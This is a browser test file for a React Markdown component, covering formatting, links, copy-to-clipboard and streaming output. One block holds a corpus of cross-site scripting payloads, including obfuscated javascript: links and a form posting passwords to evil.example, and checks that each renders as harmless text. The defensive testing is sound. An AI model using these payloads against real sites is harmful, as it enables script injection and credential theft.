import { describe, expect, it, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-react';
import '../styles.css';
import '../testing/story-frame.css';
import { brokenRules } from '../testing/axe.js';
import { Markdown } from './markdown.js';

const shown = async (text: string) => (await render(<Markdown text={text} />)).container;

describe('what people write', () => {
  it('shows as elements', async () => {
    const box = await shown(
      '# Title\n\n**bold** *soft* ~~gone~~ `code`\n\n1. a\n2. b\n\n- [x] done\n\n> quote\n\n```js\nlet a;\n```\n\n---',
    );
    for (const selector of [
      'h3',
      'strong',
      'em',
      'del',
      'code',
      'ol > li',
      'ul > li',
      'blockquote',
      'pre',
      'hr',
    ])
      expect(box.querySelector(selector), selector).not.toBeNull();
    expect(box.textContent).toContain('js');
    expect(box.querySelector('[role="img"]')?.getAttribute('aria-label')).toBe('Done');
  });

  it('shows tables with their alignment', async () => {
    const box = await shown('| a | b |\n|---|--:|\n| 1 | 2 |');
    expect([...box.querySelectorAll('th, td')].map((cell) => cell.textContent)).toEqual(['a', 'b', '1', '2']);
    expect(box.querySelector('td[data-align="right"]')?.textContent).toBe('2');
  });

  it('keeps line breaks, numbers of lists, and what entities stand for', async () => {
    const box = await shown('one\ntwo\n\n3. three &amp; more\n\n`&amp;`');
    expect(box.querySelector('br')).not.toBeNull();
    expect(box.querySelector('ol')?.start).toBe(3);
    expect(box.textContent).toContain('three & more');
    expect(box.querySelector('.baton-md-code')?.textContent).toBe('&amp;');
  });

  it('shows numbered characters as such, and what is no character as a mark for that', async () => {
    const box = await shown('&#8212; &#x1F600; &#38;lt; &#0; &#xD800; &#9999999; AT&T &#12');
    expect(box.textContent).toBe('\u2014 \u{1f600} &lt; \ufffd \ufffd \ufffd AT&T &#12');
  });

  it('opens links apart from the page and without a word about it', async () => {
    const box = await shown('[Returns](/help/returns) https://example.com/a?b=1&c=2 help@example.com');
    const links = [...box.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      '/help/returns',
      'https://example.com/a?b=1&c=2',
      'mailto:help@example.com',
    ]);
    for (const link of links)
      expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
  });

  it('shows pictures as links, so that nothing is fetched unasked', async () => {
    const box = await shown('![A bag](https://example.com/bag.png)');
    expect(box.querySelector('img')).toBeNull();
    expect(box.querySelector('a')?.textContent).toBe('A bag');
  });

  it('is readable by rule in both themes', async () => {
    for (const theme of ['light', 'dark']) {
      const { container } = await render(
        <div className="baton story-frame" data-theme={theme}>
          <Markdown
            text={'# A\n\n[link](/x) `code`\n\n```\ncode\n```\n\n| a |\n|---|\n| 1 |\n\n- [ ] todo'}
          />
        </div>,
      );
      expect(await brokenRules(container)).toEqual([]);
    }
  });
});

describe('a block of code', () => {
  const text = 'Run this:\n\n```sh\nnpm install\nnpm start\n```';

  it('goes to the clipboard as it was written, and says so', async () => {
    await render(
      <>
        <Markdown text={text} />
        <textarea aria-label="Elsewhere" />
      </>,
    );
    await userEvent.click(page.getByRole('button', { name: 'Copy' }));
    await expect.element(page.getByRole('button', { name: 'Copied' })).toBeVisible();
    const elsewhere = page.getByRole('textbox', { name: 'Elsewhere' });
    await userEvent.click(elsewhere);
    await userEvent.keyboard('{Control>}v{/Control}');
    await expect.element(elsewhere).toHaveValue('npm install\nnpm start');
  });

  it('is marked, to be copied by hand, where the browser lets no page do that', async () => {
    vi.spyOn(navigator, 'clipboard', 'get').mockReturnValue(undefined as never);
    await render(<Markdown text={text} />);
    await userEvent.click(page.getByRole('button', { name: 'Copy' }));
    expect(getSelection()?.toString()).toBe('npm install\nnpm start');
    vi.restoreAllMocks();
  });
});

describe('what attackers write', () => {
  const corpus = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action=//evil.example><input name=password></form>',
    '<div>\n<b onclick=alert(1)>x</b>\n</div>',
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](java&#10;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '# <img src=x onerror=alert(1)>',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
    '- <img src=x onerror=alert(1)>',
    '<!-- --><script>alert(1)</script>',
    '\u202e<script>alert(1)</script>',
  ];

  it.each(corpus)('stays text: %s', async (text) => {
    const box = await shown(text);
    expect(
      box.querySelector('script, img, svg, iframe, style, form, input, object, embed, [onclick]'),
    ).toBeNull();
    for (const link of box.querySelectorAll('a'))
      expect(link.getAttribute('href')).not.toMatch(/script|data:|evil/i);
    for (const word of text.match(/alert\(1\)/g) ?? []) expect(box.textContent).toContain(word);
  });

  it('shows as its source where it nests deeper than anyone reads', async () => {
    const box = await shown(`${'> '.repeat(30)}deep`);
    expect(box.querySelectorAll('blockquote').length).toBeLessThan(12);
    expect(box.textContent).toContain('deep');
  });

  it('shows as written where it is longer than a message may be', async () => {
    const box = await shown(`**not bold** ${'x'.repeat(4000)}`);
    expect(box.querySelector('strong')).toBeNull();
    expect(box.textContent).toContain('**not bold**');
  });
});

describe('while a bot is writing', () => {
  it('leaves finished blocks alone', async () => {
    const text = 'First.\n\nSecond.\n\nThird.\n\nFourth';
    const { container, rerender } = await render(<Markdown text={text} isStreaming />);
    const first = container.querySelector('p')?.firstChild;
    await rerender(<Markdown text={`${text} grows.\n\nFifth`} isStreaming />);
    expect(container.querySelector('p')?.firstChild).toBe(first);
    expect(container.querySelectorAll('p')).toHaveLength(5);
    await rerender(<Markdown text={`${text} grows.\n\nFifth`} />);
    expect(container.querySelector('p')?.firstChild).toBe(first);
  });

  it('leaves the sections of a long text alone, and looks as if it had been there at once', async () => {
    const blocks = Array.from({ length: 60 }, (_, index) =>
      index % 6 ? `Line ${index}.` : `## Part ${index}`,
    );
    const bubble = (count: number, isStreaming: boolean) => (
      <div className="baton story-frame">
        <div className="baton-bubble" data-streaming={isStreaming}>
          <Markdown text={blocks.slice(0, count).join('\n\n')} isStreaming={isStreaming} />
        </div>
      </div>
    );
    const linesOf = (box: Element) => [...box.querySelectorAll<HTMLElement>('p, h3')];
    const placesOf = (box: Element) => {
      const [first = 0, ...others] = linesOf(box).map((line) => line.getBoundingClientRect().top);
      return others.map((top) => Math.round(top - first));
    };
    const { container, rerender } = await render(bubble(50, true));
    const before = linesOf(container);
    await rerender(bubble(60, true));
    const lines = linesOf(container);
    expect(lines.slice(0, 45)).toEqual(before.slice(0, 45));
    const withCursor = lines.filter((line) => getComputedStyle(line, '::after').content !== 'none');
    expect(withCursor).toEqual(lines.slice(-1));
    const atOnce = await render(bubble(60, false));
    await expect.poll(() => placesOf(container)).toEqual(placesOf(atOnce.container));

    // A heading stands as far below the line before it, whether or not a section begins between them.
    const gaps = lines.flatMap((line, index) => {
      const above = lines[index - 1];
      if (line.localName !== 'h3' || !above) return [];
      return [line.getBoundingClientRect().top - above.getBoundingClientRect().bottom];
    });
    expect(Math.max(...gaps) - Math.min(...gaps)).toBeLessThanOrEqual(1);
  });
});
